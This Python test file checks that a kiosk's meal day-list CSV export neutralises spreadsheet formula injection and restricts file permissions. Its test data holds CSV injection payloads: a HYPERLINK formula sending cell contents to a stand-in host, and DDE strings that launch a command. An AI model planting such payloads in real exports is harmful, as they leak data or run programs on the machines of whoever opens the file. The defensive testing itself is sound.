"""The day-list export on a real SQLite file: spreadsheet formulas are neutralised, and the
file is for the kiosk's own user only (it holds names and addresses)."""
from __future__ import annotations

import csv
import datetime as dt
import os
import stat

from kiosk import day_lists

DAY = dt.date(2026, 11, 25)
# What a name or an address may hold that a spreadsheet would run (OWASP CSV injection).
HOSTILE = {"elder-0001": ("name", '=HYPERLINK("http://x.example/?"&A1,"点我")'),
           "elder-0002": ("address", "+1+cmd|' /C calc'!A0"),
           "elder-0003": ("name", "@SUM(1+1)*cmd|' /C calc'!A0"),
           "elder-0004": ("name", "-2+3+cmd|' /C calc'!A0"),
           "elder-0005": ("name", "\t=1+1"),
           "elder-0006": ("name", "\r=1+1")}


def export(core) -> list[list[str]]:
    for elder_id, (column, value) in HOSTILE.items():
        core.store.conn.execute(f"UPDATE elders SET {column} = ? WHERE id = ?",  # noqa: S608
                                (value, elder_id))
        mode = "delivery" if column == "address" else "pickup"
        core.store.conn.execute("UPDATE elders SET delivery_allowed = 1 WHERE id = ?",
                                (elder_id,))
        core.meals.book(elder_id, f"meal:{DAY}:lunch", mode)
    lists = day_lists.day_lists(core.store, DAY)
    path = day_lists.export_csv(lists, day_lists.export_folder(core.settings.data_dir),
                                core.text)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_cells_a_spreadsheet_would_run_are_exported_as_text(core):
    rows = export(core)
    cells = [cell for row in rows for cell in row]
    for _column, value in HOSTILE.values():
        assert "'" + value in cells  # kept whole, behind one quote
        assert value not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert len(rows) == 1 + len(HOSTILE)


def test_the_export_folder_and_file_are_the_kiosk_users_only(core):
    export(core)
    folder = day_lists.export_folder(core.settings.data_dir)
    [path] = folder.glob("day-lists-*.csv")
    assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
